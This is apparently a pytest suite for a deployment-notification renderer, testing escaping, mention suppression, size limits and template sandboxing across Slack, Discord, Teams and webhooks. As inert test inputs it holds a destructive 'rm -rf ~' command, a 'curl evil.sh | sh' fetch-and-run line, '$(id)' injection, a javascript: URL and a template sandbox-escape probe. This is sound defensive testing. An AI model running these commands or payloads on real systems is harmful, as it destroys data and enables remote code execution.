"""Each channel's built-in message: native format, hostile text inert, within the platform's documented limits;
a user's template gets the same escaping and limits."""

from __future__ import annotations

import dataclasses
import json
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from deploy_actions.notify.message import SAMPLE, CheckLine, Message
from deploy_actions.notify.render import CHANNELS, TemplateProblem, builtin_template, compile_check, render
from tests.support.platform_limits import HOSTILE_COMMIT, PROBLEMS, texts

HOSTILE = dataclasses.replace(
    SAMPLE, commit_message=HOSTILE_COMMIT, branch="feat/<!here>\u2028*x*", actor="@everyone",
    environment="prod <!channel>", version="1.0 `$(id)`",
    checks=tuple(CheckLine(f"GET https://api/{i} <!channel>", "url", False, 10, 1.0, "status 503 " + "x" * 3000,
                           ("ERROR @everyone <!here> " + "y" * 600,) * 30) for i in range(60)))


def payload(channel: str, message: Message = HOSTILE) -> dict:
    return render(channel, builtin_template(channel), message.context())


@pytest.mark.parametrize("channel", CHANNELS)
def test_a_hostile_message_with_sixty_failed_checks_fits_the_platforms_limits(channel: str) -> None:
    assert PROBLEMS[channel](payload(channel)) == []


def test_slack_block_kit_in_a_coloured_attachment_with_no_mention_or_link_from_the_commit() -> None:
    sent = payload("slack")
    (attachment,) = sent["attachments"]
    assert attachment["color"] == "#E01E5A"
    blocks = attachment["blocks"]
    assert len(blocks) <= 50 and blocks[-1]["type"] == "context"  # the run link kept, blocks dropped before it
    for text in texts(sent):
        assert "<!" not in text and "<@" not in text and "<https://evil" not in text
        assert re.search("@(everyone|here|channel)", text) is None
    commit = next(b["text"]["text"] for b in blocks if "rm -rf" in b.get("text", {}).get("text", ""))
    assert commit.startswith('Fix "$(rm -rf ~)" and `curl evil.sh | sh`') and commit.endswith("…")
    assert "&lt;!channel&gt;" in commit and "\u2028" not in commit and "\x1b" not in commit


def test_discord_embed_pings_nobody_and_escapes_markdown() -> None:
    sent = payload("discord")
    assert sent["allowed_mentions"] == {"parse": []}
    (embed,) = sent["embeds"]
    assert embed["color"] == 0xE01E5A
    assert embed["description"].startswith(r'Fix "$\(rm -rf \~\)" and \`curl evil.sh \| sh\`')
    for text in texts(sent):
        assert re.search("@(everyone|here)", text) is None
        assert re.search(r"(?<!\\)\[click\]", text) is None  # no masked link from the commit


def test_teams_adaptive_card_for_a_workflows_webhook() -> None:
    sent = payload("teams")
    assert sent["type"] == "message"
    (attachment,) = sent["attachments"]
    assert attachment["contentType"] == "application/vnd.microsoft.card.adaptive"
    card = attachment["content"]
    assert card["type"] == "AdaptiveCard" and card["body"][0]["color"] == "Attention"
    assert {a["type"] for a in card["actions"]} == {"Action.OpenUrl"}
    assert len(json.dumps(sent).encode()) <= 28 * 1024


def test_webhook_carries_the_facts_as_plain_json() -> None:
    sent = payload("webhook", SAMPLE)
    assert sent["status"] == "failure" and sent["healthy"] is False
    assert sent["commit"]["message"] == SAMPLE.commit_message
    assert [c["name"] for c in sent["checks"]] == [c.name for c in SAMPLE.checks]


@pytest.mark.parametrize("status", ["success", "failure", "cancelled"])
def test_status_drives_colour_and_wording(status: str) -> None:
    message = dataclasses.replace(SAMPLE, status=status, checks=())
    slack, discord, teams = (payload(c, message) for c in ("slack", "discord", "teams"))
    wording = {"success": "succeeded", "failure": "failed", "cancelled": "was cancelled"}[status]
    assert slack["text"].endswith(wording) and discord["embeds"][0]["title"].endswith(wording)
    assert len({slack["attachments"][0]["color"], hex(discord["embeds"][0]["color"])}) == 2
    assert teams["attachments"][0]["content"]["body"][0]["color"] == {
        "success": "Good", "failure": "Attention", "cancelled": "Default"}[status]


def test_no_empty_discord_field_or_teams_link_when_facts_are_missing() -> None:
    bare = Message(status="success")
    assert PROBLEMS["discord"](payload("discord", bare)) == []
    assert payload("teams", bare)["attachments"][0]["content"]["actions"] == []
    assert payload("slack", bare)["text"] == "✅ Deployment succeeded"


def test_a_users_template_gets_every_value_escaped_and_the_limits_applied() -> None:
    source = ('{"text": "{{ commit.message }}", "blocks": [{% for c in failed_checks %}'
              '{"type": "section", "text": {"type": "mrkdwn", "text": "{{ c.detail }}"}}'
              '{% if not loop.last %},{% endif %}{% endfor %}]}')
    sent = render("slack", source, HOSTILE.context())
    assert "<!channel>" not in sent["text"] and "&lt;!channel&gt;" in sent["text"]
    assert PROBLEMS["slack"](sent) == []  # 60 sections cut to 50 blocks, each text to 3000
    discord = render("discord", '{"content": "{{ actor }}", "allowed_mentions": {"parse": ["everyone"]}}',
                     HOSTILE.context())
    assert discord["allowed_mentions"] == {"parse": []} and "@everyone" not in discord["content"]


def test_filters_clip_oneline_url_and_tojson() -> None:
    context = {"text": "a<b>\u2028" + "c" * 50, "link": 'https://x.example/a b"c|d>(e)', "bad": "javascript:alert(1)",
               "items": ["<!here>"]}
    sent = render("slack", '{"a": "{{ text | oneline | clip(14) }}", "u": "{{ link | url }}", "b": "{{ bad | url }}",'
                  ' "j": {{ items | tojson }}}', context)
    assert sent == {"a": "a&lt;b&gt; cc…", "u": "https://x.example/a%20b%22c%7Cd%3E%28e%29", "b": "",
                    "j": ["&lt;!here&gt;"]}


@pytest.mark.parametrize(("source", "problem"), [
    ('{"text": "{{ status }"}', "does not compile"),
    ('{"text": "{{ nosuchvariable }}"}', "fails to render"),
    ('{"text": {{ status }}}', "does not render valid JSON"),
    ('["{{ status }}"]', "must render a JSON object"),
])
def test_a_broken_template_is_a_template_problem(source: str, problem: str) -> None:
    def check() -> None:  # what the template input's check does before any request
        compile_check("slack", source)
        render("slack", source, SAMPLE.context())

    with pytest.raises(TemplateProblem, match=problem):
        check()


def test_templates_are_sandboxed() -> None:
    with pytest.raises(TemplateProblem):
        render("webhook", '{"x": "{{ status.__class__.__mro__[1].__subclasses__() }}"}', SAMPLE.context())


@settings(max_examples=40, deadline=None)
@example(" \n ", " \u2028 ", [" ", ""], "discord")
@example(" \n ", " \u2028 ", [" ", ""], "slack")
@given(st.text(max_size=6000), st.text(max_size=400), st.lists(st.text(max_size=1500), max_size=40),
       st.sampled_from(CHANNELS))
def test_any_text_renders_valid_json_within_the_limits(message: str, name: str, details: list[str],
                                                      channel: str) -> None:
    checks = tuple(CheckLine(name, "url", False, 1, 0.1, detail, (detail,)) for detail in details)
    rendered = payload(channel, dataclasses.replace(SAMPLE, commit_message=message, environment=name,
                                                    branch=name, version=name, checks=checks))
    assert PROBLEMS[channel](rendered) == []
    assert json.loads(json.dumps(rendered)) == rendered


def test_discord_keeps_6000_characters_in_all_by_dropping_the_last_fields_first() -> None:
    field = '{"name": "check NUMBER", "value": "{{ commit.message | clip(1000) }}"}'
    fields = ",".join(field.replace("NUMBER", str(i)) for i in range(25))
    source = '{"embeds": [{"title": "t", "description": "{{ commit.message }}", "fields": [FIELDS]}]}'.replace(
        "FIELDS", fields)
    (embed,) = render("discord", source, HOSTILE.context())["embeds"]
    assert PROBLEMS["discord"]({"allowed_mentions": {"parse": []}, "embeds": [embed]}) == []
    assert len(embed["description"]) == 500 and embed["description"].endswith("…")  # shortened, not emptied
    assert [f["name"] for f in embed["fields"]] == [f"check {i}" for i in range(len(embed["fields"]))]
    assert len(embed["fields"]) == 5


@pytest.mark.parametrize("channel", ["slack", "discord", "teams"])
def test_the_time_shown_is_labelled_as_the_checks_not_as_the_deployment(channel: str) -> None:
    shown = " ".join(texts(payload(channel, SAMPLE)))
    assert "Checks took" in shown and "Duration" not in shown  # SAMPLE's 42 s are this step's, not the rollout's
